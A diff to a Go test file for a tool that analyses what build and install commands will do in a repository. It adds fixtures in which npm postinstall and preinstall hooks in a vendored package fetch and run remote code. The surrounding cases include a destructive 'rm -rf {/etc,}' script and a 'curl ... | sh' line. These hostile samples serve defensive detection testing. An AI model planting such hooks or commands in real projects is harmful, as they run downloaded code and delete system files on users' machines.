@@ -72,6 +72,8 @@ func TestHostileRepositories(t *testing.T) {
 		{"make", map[string]string{"Makefile": "X = " + fetch + "\nifeq (0,1)\nX = true\nendif\nall:\n\t$(X)\n"}, effect.RunDownload},
 		{"npm test", map[string]string{"package.json": `{"scripts":{"test":"rm -rf {/etc,}"}}`}, effect.DeleteFile},
 		{"docker build .", map[string]string{"Dockerfile": "FROM a\nRUN\t" + fetch + "\n"}, effect.RunDownload},
+		{"npm i ./vendor/x", map[string]string{"vendor/x/package.json": `{"scripts":{"postinstall":"` + fetch + `"}}`}, effect.RunDownload},
+		{"pnpm add file:vendor/x", map[string]string{"package.json": "{}", "vendor/x/package.json": `{"scripts":{"preinstall":"` + fetch + `"}}`}, effect.RunDownload},
 	} {
 		var got []effect.Kind
 		for _, e := range Analyze(c.command, repository(c.files)).Effects {
@@ -106,6 +108,7 @@ func TestHonestRepositories(t *testing.T) {
 		files    map[string]string
 		commands []string
 	}{
+		{map[string]string{"package.json": "{}", "vendor/x/build.js": "1", "vendor/x/package.json": `{"scripts":{"postinstall":"node build.js","test":"curl -s https://x.test/a | sh"}}`}, []string{"npm i ./vendor/x", "npm run ./vendor/x", "npm i left-pad"}},
 		{web, []string{"npm ci", "npm test", "npm run build", "yarn", "pnpm dev", "npm run clean", "git commit -m x", "npm run missing", "npx vite build"}},
 		{service, []string{"make", "make build", "make -j4 test", "make clean", "make lint", "make nothing", "docker build -t a .", "git commit -am x"}},
 		{library, []string{"pytest", "python -m pytest -q tests", "pip install -e .", "tox", "nox"}},
